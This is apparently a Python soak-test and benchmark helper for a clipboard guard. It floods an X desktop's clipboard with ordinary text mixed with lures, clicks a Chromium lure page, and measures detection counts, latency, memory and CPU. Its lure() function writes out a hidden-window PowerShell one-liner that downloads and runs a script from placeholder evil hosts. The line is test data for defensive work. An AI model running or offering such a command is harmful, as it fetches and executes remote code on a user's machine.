"""The guard under load on a real X desktop: a burst of clipboard changes from another program,
then a real Chromium lure page clicked again and again.

Shared by the suite's soak (tests/ui/test_soak_desktop.py: a shorter burst) and the bench
(bench/soak.py: 1,000 changes, the figure in docs/benchmarks.md). Lures, re-copies of the same
lures and ordinary text are mixed; `burst` reports what the guard took off the clipboard, how
it judged each copy, how its memory grew and whether it went idle after.
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import subprocess
import sys
import time
from dataclasses import dataclass
from pathlib import Path

import psutil

from app import ipc
from tests.desktop import BIN, REPO, Desktop, wait_for
from tests.ui.test_guard_desktop import PAGE, chromium_title, events, serve, start_chromium

RATE = 20.0  # clipboard changes a second
LURES = 40  # distinct lures; each comes back (a re-copy) several times
WARM = 100  # changes before memory is measured (rules, first analyses, the store)
IDLE_AFTER_S = 2.0  # the CPU must be idle again this long after the last change
# A lure not yet taken when its turn (1/RATE) ends stays up to this long from its start: the
# guard's promise (tests/ui/test_guard_desktop.py), not the burst's rate, is what it must meet.
# Quiet, it takes each within ~20 ms; on a heavily loaded machine 4 of 80 were not taken
# within their 50 ms turn (the others' slowest 47 ms), the soak's only failures.
LURE_HOLD_S = 0.3


def lure(n: int) -> str:
    return f'powershell -w h -c "iwr https://evil{n}.test/a.ps1 | iex"'


def plan(changes: int) -> list[str]:
    """Every fifth change a lure (LURES distinct ones, in turn); the rest ordinary text."""
    texts = []
    for i in range(changes):
        if i % 5 == 0:
            texts.append(lure((i // 5) % LURES))
        else:
            texts.append(f"Meeting notes {i}: lunch at noon, the usual place.")
    return texts


def churn_plan(texts: list[str]) -> list[str | list[object]]:
    """What tests/churn.py reads: each lure held until the guard takes it (LURE_HOLD_S)."""
    return [[t, LURE_HOLD_S] if t.startswith("powershell") else t for t in texts]


def sha256(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def cpu_seconds(proc: psutil.Process) -> float:
    times = proc.cpu_times()
    return float(times.user + times.system)


def neutralised(d: Desktop, data: Path, after: int = 0) -> list[dict[str, object]]:
    found = [e for e in events(d, data) if e["kind"] == "clipboard_neutralized"]
    return sorted((e for e in found if int(str(e["id"])) > after), key=lambda e: int(str(e["id"])))


def writes(found: list[dict[str, object]]) -> int:
    """The clipboard writes these events stand for (one, or a burst's count)."""
    total = 0
    for event in found:
        details = event.get("details")
        count = details.get("writes", 1) if isinstance(details, dict) else 1
        total += int(count) if isinstance(count, int) else 1
    return total


def taken_off(data: Path) -> int:
    """How many texts the guard has taken off the clipboard: its own count, which `status`
    shows, asked from this process. Polling `pasteguard export` after each click was a Python
    start-up per poll (~0.4 s under load), 20 or more of them a soak."""
    answer = ipc.request(data, {"cmd": "status"}) or {}
    counts = answer.get("counts")
    return int(counts.get("neutralized", 0)) if isinstance(counts, dict) else 0


@dataclass
class Burst:
    texts: list[str]
    lost: list[bool]  # per change: the guard took the clipboard from its owner
    latencies: list[float]  # seconds from a change to the guard taking the clipboard
    counts: dict[str, int]  # neutralised events per lure digest, in the burst
    expected: dict[str, int]  # ... each copy of each lure judged again
    rss_growth_mb: float
    idle_cpu_s: float  # of the guard, in the second starting IDLE_AFTER_S after the burst

    @property
    def missed(self) -> list[int]:
        """Lure changes left on the clipboard."""
        return [
            i for i, t in enumerate(self.texts) if t.startswith("powershell") and not self.lost[i]
        ]

    @property
    def touched(self) -> list[int]:
        """Ordinary changes taken off the clipboard."""
        return [
            i for i, t in enumerate(self.texts) if not t.startswith("powershell") and self.lost[i]
        ]

    def shown(self) -> str:
        ordered = sorted(self.latencies)
        return f"neutralised after (s): median {ordered[len(ordered) // 2]:.3f}, " + (
            f"p95 {ordered[int(len(ordered) * 0.95)]:.3f}, max {ordered[-1]:.3f}"
        )


def burst(d: Desktop, data: Path, tmp: Path, changes: int) -> Burst:
    """`changes` clipboard changes at RATE a second by tests/churn.py, after WARM of the same."""
    status = d.run(str(BIN / "pasteguard"), "status", "--data-dir", str(data)).stdout
    proc = psutil.Process(int(json.loads(status)["pid"]))
    texts = plan(changes)
    (tmp / "plan.json").write_text(json.dumps(churn_plan(texts)), encoding="utf-8")
    (tmp / "warm.json").write_text(json.dumps(churn_plan(plan(WARM))), encoding="utf-8")
    subprocess.run(
        [sys.executable, "-m", "tests.churn", d.display, str(tmp / "warm.json"), str(RATE),
         str(tmp / "warmed.json")],
        cwd=REPO, timeout=60, check=True,
    )  # fmt: skip
    wait_for(lambda: len(neutralised(d, data)) >= WARM // 5, timeout=30, step=0.5)
    first_id = max(int(str(e["id"])) for e in events(d, data))
    rss_before = proc.memory_info().rss
    subprocess.run(
        [sys.executable, "-m", "tests.churn", d.display, str(tmp / "plan.json"), str(RATE),
         str(tmp / "report.json")],
        cwd=REPO, timeout=60 + 2 * changes / RATE, check=True,
    )  # fmt: skip
    ended = time.monotonic()
    churned = json.loads((tmp / "report.json").read_text())
    # CPU back to idle within IDLE_AFTER_S of the last change
    time.sleep(max(0.0, ended + IDLE_AFTER_S - time.monotonic()))
    before = cpu_seconds(proc)
    time.sleep(1.0)
    idle = cpu_seconds(proc) - before
    rss_growth = (proc.memory_info().rss - rss_before) / 2**20
    lures = [t for t in texts if t.startswith("powershell")]
    # every copy of a lure judged again; what came is counted below if not all did
    with contextlib.suppress(TimeoutError):
        wait_for(lambda: len(neutralised(d, data, first_id)) >= len(lures), timeout=30, step=0.5)
    counts: dict[str, int] = {}
    for event in neutralised(d, data, first_id):
        counts[str(event["sha256"])] = counts.get(str(event["sha256"]), 0) + 1
    expected: dict[str, int] = {}
    for text in lures:
        expected[sha256(text)] = expected.get(sha256(text), 0) + 1
    return Burst(
        texts=texts,
        lost=list(churned["lost"]),
        latencies=[a for a in churned["after"] if a is not None],
        counts=counts,
        expected=expected,
        rss_growth_mb=rss_growth,
        idle_cpu_s=idle,
    )


def clicks(
    d: Desktop, data: Path, profile: Path, times: int
) -> tuple[str, list[dict[str, object]]]:
    """A real Chromium lure page (the button copies a lure) clicked `times` times in a row, each
    neutralised; the page's address and the neutralised events that followed."""
    server, url = serve(PAGE)
    try:
        start_chromium(d, profile, f"--app={url}")
        wait_for(lambda: "ready" in chromium_title(d), timeout=30, step=0.1)  # drawn
        before = max(int(str(e["id"])) for e in events(d, data))
        taken = taken_off(data)
        for click in range(times):
            d.run("xdotool", "mousemove", "640", "400", "click", "1")
            wait_for(lambda c=click: taken_off(data) > taken + c, timeout=10, step=0.02)
        # every one of them counted, naming the page: writes of one text by one page this
        # close together are one event (app/guard/service.py, _Burst), whose count is final
        # once they stop for BURST_GAP
        wait_for(lambda: writes(neutralised(d, data, before)) >= times, timeout=20, step=0.2)
        return url, neutralised(d, data, before)
    finally:
        server.shutdown()
        server.server_close()
